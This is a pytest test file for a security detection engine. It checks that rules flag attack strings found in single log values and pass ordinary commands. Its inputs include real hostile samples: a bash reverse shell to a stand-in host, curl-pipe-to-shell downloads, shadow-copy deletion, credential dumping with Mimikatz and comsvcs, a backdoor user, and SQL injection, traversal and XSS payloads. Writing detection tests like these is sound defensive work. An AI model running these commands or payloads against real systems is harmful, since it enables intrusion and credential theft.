"""A value alone, as `field=CommandLine`, `field=url` or `field=http_user_agent` sends it, is judged like the event that it was taken from."""
import time

import pytest

from aiscore_contract.forms.bare import bare_of
from aiscore_rules.engine import RuleEngine
from aiscore_rules.fields import read_facts
from aiscore_rules.logsource import label
from aiscore_rules.pack import default_pack_path, load_pack

ENGINE = RuleEngine(load_pack(default_pack_path()))


def titles(text, sourcetype=""):
    hit = ENGINE.judge(text, sourcetype).rule_ids
    return {rule.title for rule in ENGINE.pack.rules if rule.id in hit}


@pytest.mark.parametrize("text, sourcetype", [
    ("vssadmin delete shadows /all /quiet", "XmlWinEventLog"),
    (r"C:\Windows\System32\cmd.exe /c vssadmin delete shadows /all /quiet", "XmlWinEventLog"),
    (r"rundll32.exe C:\windows\system32\comsvcs.dll, MiniDump 624 C:\temp\a.dmp full", "xmlwineventlog"),
    ("powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", ""),
    ("Invoke-Mimikatz -DumpCreds", "powershell"),
    ("net user backdoor Secret-1 /add", ""),
    ("bash -i >& /dev/tcp/db7/4444 0>&1", "linux:audit"),
    ("sudo cat /etc/shadow", "bash_history"),
    ("#1700000000\nhistory -c", "bash_history"),
    ("<#\n  Helps\n#>\n$client = New-Object Net.WebClient\nInvoke-Mimikatz -DumpCreds", "powershell"),
    ("# installs\ntry {\n  $x = Get-Content a\n} catch { }\nIEX (New-Object Net.WebClient).DownloadString('http://db7/a')", ""),
    (r"C:\Users\ada>vssadmin delete shadows /all /quiet", ""),
    ("ann@db7:/root$ XY=1 ADDRESS=$(curl -s http://db7/a | sh)", ""),
    ("/index.php?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--", "access_combined"),
    ("id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--", "access_combined"),
    ("?page=..%2f..%2f..%2fetc%2fpasswd&x=1&y=2&z=3", ""),
    ("https://shop.example/index.php?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--", ""),
    ("sqlmap/1.7.2#stable (https://sqlmap.org)", "access_combined"),
    ("shop.example/index.php?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--", ""),
    ("GEThttp://shop.example/index.php?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--", ""),
    ("' or 1=1 -- ", ""),
    ("1 UNION ALL SELECT NULL,name,password FROM users#", "payloads"),
    ("<img src=x onerror=alert(document.cookie)>", ""),
    ("; cat /etc/passwd", ""),
    ("../../../../etc/passwd%00", ""),
])
def test_an_attack_in_a_value_alone_is_found_by_the_rules(text, sourcetype):
    assert titles(text, sourcetype)


@pytest.mark.parametrize("text", [
    "net income rose by three percent", "service stopped unexpectedly", "java heap space error", "find the cause of this", "Time is running out",
    "docker daemon started", "at noon the job failed", "mysql server has gone away", "bash: line 1: foo: command not found", "# a remark", "# a remark\nand another", "if (ever) it happens again, call Ada", "text/html",
    "Cannot read file /etc/x", "History of the world", "ssh connection closed", "", "hello", "Error/500 something bad",
    "user=ada", "user=ada,action=login", "level=info;msg=started", "state=ready since=yesterday",
])
def test_a_sentence_is_no_command_though_it_begins_with_the_name_of_a_program(text):
    assert bare_of(text) is None


@pytest.mark.parametrize("text", [
    "git commit -m fix", "apt-get update", r"C:\Windows\system32\svchost.exe -k netsvcs -p", "/index.html", "https://www.example.org/wiki/Main_Page", "www.example.org/wiki/Main_Page", "select name from customers where id = 4", "<li><a href=\"/a\">b</a></li>",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0 Safari/537.36", "Get-ADUser -Filter *",
])
def test_daily_work_in_a_value_alone_hits_no_rule_that_calls_it_suspicious(text):
    assert ENGINE.judge(text).score < 0.5


def test_the_place_of_a_file_is_no_page():
    assert read_facts("/etc/passwd", "").family == "text" and read_facts("/etc/passwd?x=1", "").family == "bare"


def test_a_name_that_two_systems_know_is_asked_for_on_both():
    facts = read_facts("whoami", "")
    assert facts.fields["image"] == ("\\whoami.exe", "/whoami")
    assert {"windows", "linux", "macos"} <= label(facts, "").products


def test_a_prompt_tells_the_system():
    assert label(read_facts(r"C:\Temp>whoami", ""), "").products == {"windows"}


def test_a_command_behind_another_is_asked_for_too_but_not_one_in_quotes():
    assert read_facts("sudo -u root nmap db1 | tee x", "").fields["image"] == ("/sudo", "/nmap", "/tee")
    assert read_facts("grep -r 'a | nmap' src", "").fields["image"] == "/grep"


@pytest.mark.parametrize("text", [
    "ab-abc " * 9_000, "$a " * 9_000, "Ab/1 " * 9_000, "Ab/1." + "1" * 40_000, "cat " + "a;" * 20_000, '"' * 40_000, "C:\\" + "a " * 20_000, "sudo " + "-u " * 9_000,
    "(" * 40_000, "A/1 (" * 9_000, "a=" * 20_000, "#" + "Abc-Abc " * 9_000, "# " + "(    " * 9_000, "# $" + "a" * 40_000, "a=1,b" * 9_000, "/" * 40_000, "a@b:" * 9_000, "cat '" + "a" * 40_000, "cat \"" + "\\\"" * 20_000, "[system." * 5_000, "\\\\" * 20_000,
])
def test_hostile_values_are_read_in_no_time(text):
    start_s = time.process_time()
    bare_of(text)
    assert time.process_time() - start_s < 1.0


def test_an_agent_with_an_attack_behind_it_is_no_command():
    assert bare_of("curl/8.5.0 <script>alert(1)</script>") is None and bare_of("ipconfig/all").kind == "command"


@pytest.mark.parametrize("text", ["rate=12%", "total=100%", "user=<unknown>", "uid=0(root)", "x=1+2", "server.url=http://localhost:8080/a", "err=\"x\"", "key='v'", "path=/usr/bin",
                                  "session=abc/def", "next=/home"])
def test_a_pair_alone_that_any_program_may_write_is_no_query(text):
    assert bare_of(text) is None and bare_of(f"?{text}").kind == "request"


@pytest.mark.parametrize("text", ["id=1'", "id=1+and+1=1", "q=<script>alert(1)</script>", "q=<svg/onload=alert(1)>", "file=../../etc/passwd", "file=php://filter/a", "x=${jndi:ldap://a}", "a=%27",
                                  "a=1&b=2", "q='+or+1=1", "x=`id`", "x={{7*7}}", "x=\"><b"])
def test_a_pair_alone_with_an_attack_is_one(text):
    assert bare_of(text).value == f"?{text}"


@pytest.mark.parametrize("text", [
    "kill -9 4711", "kill -HUP 4711", "su - root", "su -", "source ~/.bashrc", "set +o history", "ps aux", "while true; do nc db7 1; done", "clear", "node app.js", "make install",
    "mkfifo /tmp/f; nc -l 1 < /tmp/f", r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1", r"\SystemRoot\System32\smss.exe", "%COMSPEC% /c echo x", "launchctl load a.plist",
    "{ Set-StrictMode -Version 1; $_.Name }", "C:/Windows/System32/cmd.exe /c whoami", "#!/bin/bash\ncurl http://db7/x | sh", "@echo off\r\nvssadmin delete shadows /all"])
def test_a_command_is_one_with_few_words(text):
    assert bare_of(text).kind == "command"


@pytest.mark.parametrize("text", ["kill switch engaged", "while waiting for the lock", "while reading /etc/app.conf: permission denied", "until 'x' is done", "clear skies ahead", "make sure that it runs", "set of rules loaded", "su failed", "until further notice"])
def test_words_like_these_are_no_commands(text):
    assert bare_of(text) is None


@pytest.mark.parametrize("text", ["/opt/../../etc/passwd", "/home/<script>alert(1)</script>", "/var/a%27--", "/etc/passwd%00.jpg", "/dev/null'or'1'='1"])
def test_what_leads_out_of_a_folder_or_holds_an_attack_is_asked_for(text):
    assert bare_of(text).kind == "request"


ROW = ("188.010065,7555,7555,7548,1001,4026531840,sshd,web3,59,execve,\"[140674]\",2,0,\"[{'name': 'pathname', 'type': 'const char*', 'value': '/bin/bash'}, "
       "{'name': 'argv', 'type': 'const char*const*', 'value': ['bash', '-c', 'bash -i >& /dev/tcp/db7/4444 0>&1']}]\",1,1")


@pytest.mark.parametrize("sourcetype", ["", "csv", "linux:audit"])
def test_a_command_in_a_row_of_system_calls_hits_what_it_hits_alone(sourcetype):
    alone = titles("bash -c 'bash -i >& /dev/tcp/db7/4444 0>&1'")
    assert alone and alone <= titles(ROW, sourcetype)
